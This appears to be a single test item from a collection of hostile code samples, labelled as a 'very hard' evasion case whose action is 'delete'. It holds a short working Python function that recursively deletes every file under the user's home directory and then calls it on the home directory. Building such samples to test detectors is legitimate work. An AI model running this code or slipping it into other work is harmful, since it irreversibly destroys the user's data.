# evasion: a recursive function removes the home directory
# grade: very hard; does: delete
import os
def nuke(p):
    for n in os.listdir(p):
        q = os.path.join(p, n)
        nuke(q) if os.path.isdir(q) else os.remove(q)
nuke(os.path.expanduser("~"))
